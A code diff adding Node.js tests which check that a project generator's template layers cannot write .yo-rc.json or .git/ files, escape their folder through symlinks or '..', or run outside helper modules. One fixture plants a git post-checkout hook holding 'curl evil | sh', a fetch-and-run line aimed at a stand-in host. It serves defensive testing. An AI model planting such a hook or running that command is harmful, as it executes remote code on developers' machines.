@@ -8,7 +8,7 @@
  */
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, it } from 'node:test';
 import { parse as parseYaml } from 'yaml';
@@ -193,6 +193,85 @@ describe('layers refused, nothing written', () => {
     assert.equal(result.status, 1);
     assert.match(result.stderr, /house-targets/);
     assert.deepEqual(Object.fromEntries(listFiles(repo).map((file) => [file, read(repo, file)])), before);
+  });
+});
+
+describe('layers stay in their folder, nothing written', () => {
+  const refused = (dir: string, expected: RegExp) => {
+    const work = scratchDir('layers-refused');
+    const result = runBin(work, ['demo', '--yes', '--offline', '--templates', dir]);
+    assert.equal(result.status, 1, result.stdout + result.stderr);
+    assert.equal(result.stderr.split('\n').filter(Boolean).length, 1, result.stderr);
+    assert.match(result.stderr.trimEnd(), expected);
+    assert.deepEqual(listFiles(work), [], 'nothing written');
+  };
+  /** A file outside any layer, which a layer must not be able to copy or run. */
+  const outside = (name: string, text: string) => {
+    const file = path.join(scratchDir('outside'), name);
+    writeFileSync(file, text);
+    return file;
+  };
+
+  it('a layer that would write .yo-rc.json, as a file or a template', () => {
+    for (const file of ['.yo-rc.json', '.yo-rc.json.hbs', '.YO-RC.JSON']) {
+      const dir = layer({ name: 'config', context: '^1.0.0' }, { [file]: '{}\n' });
+      refused(dir, new RegExp(`^generator-lambda-local: template layer config: file "templates/${file.replaceAll('.', '\\.')}" is not allowed; expected files that write neither \\.yo-rc\\.json \\(the answers, pins and hashes\\) nor anything under \\.git/; nothing was written$`));
+    }
+  });
+
+  it('a layer that would write under .git/', () => {
+    const dir = layer({ name: 'hooks', context: '^1.0.0' }, { '.git/hooks/post-checkout': '#!/bin/sh\ncurl evil | sh\n' });
+    refused(dir, /^generator-lambda-local: template layer hooks: file "templates\/\.git\/hooks\/post-checkout" is not allowed; expected files that write neither/);
+  });
+
+  it('a layer file that is a link out of the layer, to a file or a folder', () => {
+    const file = layer({ name: 'linked', context: '^1.0.0' });
+    mkdirSync(path.join(file, 'templates'));
+    const target = outside('hostname', 'secret host\n');
+    symlinkSync(target, path.join(file, 'templates', 'hostname'));
+    refused(file, new RegExp(`^generator-lambda-local: template layer linked: file "templates/hostname" is not allowed \\(it resolves to ${target.replaceAll('.', '\\.')}, outside the layer's folder\\); expected files inside the layer's folder; nothing was written$`));
+
+    const folder = layer({ name: 'linked', context: '^1.0.0' });
+    mkdirSync(path.join(folder, 'templates'));
+    symlinkSync(path.dirname(target), path.join(folder, 'templates', 'localdev'));
+    refused(folder, /^generator-lambda-local: template layer linked: file "templates\/localdev" is not allowed \(it resolves to .*, outside the layer's folder\); expected files inside the layer's folder; nothing was written$/);
+  });
+
+  it('a helpers module outside the layer, by .. or by a link, and nothing of it runs', () => {
+    const marker = path.join(scratchDir('helpers-ran'), 'ran');
+    const code = `import { writeFileSync } from 'node:fs';\nwriteFileSync(${JSON.stringify(marker)}, 'ran');\nexport const shout = (text) => String(text).toUpperCase();\n`;
+    const module = outside('x.mjs', code);
+    const dotted = layer({ name: 'far', context: '^1.0.0', helpers: path.relative(scratchDir('unused'), module) });
+    const byDots = layer({ name: 'far', context: '^1.0.0', helpers: `../${path.relative(path.dirname(dotted), module)}` });
+    refused(byDots, /^generator-lambda-local: .*lambda-local\.templates\.json: "helpers" ".*x\.mjs" is not allowed \(it resolves to .*x\.mjs, outside the layer's folder\); expected the path of a JavaScript module in the layer; nothing was written$/);
+    const linked = layer({ name: 'far', context: '^1.0.0', helpers: 'helpers.mjs' });
+    symlinkSync(module, path.join(linked, 'helpers.mjs'));
+    refused(linked, /"helpers" "helpers\.mjs" is not allowed \(it resolves to .*x\.mjs, outside the layer's folder\)/);
+    assert.equal(listFiles(path.dirname(marker)).length, 0, 'the module outside never ran');
+  });
+
+  it("a link that stays in the layer is the layer's own file", () => {
+    const dir = layer({ name: 'inside', context: '^1.0.0' }, { 'localdev/notes.txt': 'ours\n' });
+    symlinkSync(path.join(dir, 'templates/localdev/notes.txt'), path.join(dir, 'templates/localdev/same.txt'));
+    const repo = generated(['--templates', dir]);
+    assert.equal(read(repo, 'localdev/same.txt'), 'ours\n');
+  });
+});
+
+describe('a run with layers', () => {
+  it('names them in its output, and a run without says nothing of layers', () => {
+    const work = scratchDir('layers-named');
+    const result = runBin(work, ['demo', '--yes', '--offline', '--templates', example]);
+    assert.equal(result.status, 0, result.stderr);
+    assert.match(result.stdout + result.stderr, new RegExp(`template layers \\(bottom first\\): acme \\(${example.replaceAll('.', '\\.')}\\)\n`));
+    const plain = runBin(scratchDir('layers-named'), ['demo', '--yes', '--offline']);
+    assert.doesNotMatch(plain.stdout + plain.stderr, /template layer/);
+    const rerun = runBin(path.join(work, 'demo'), ['--yes', '--offline', '--memory', '512']);
+    assert.equal(rerun.status, 0, rerun.stderr);
+    assert.match(rerun.stdout + rerun.stderr, /template layers \(bottom first\): acme \(/, 'a re-run, through Yeoman');
+    const bump = runBin(path.join(work, 'demo'), ['bump', '--offline']);
+    assert.equal(bump.status, 0, bump.stderr);
+    assert.match(bump.stdout + bump.stderr, /template layers \(bottom first\): acme \(/);
   });
 });
 
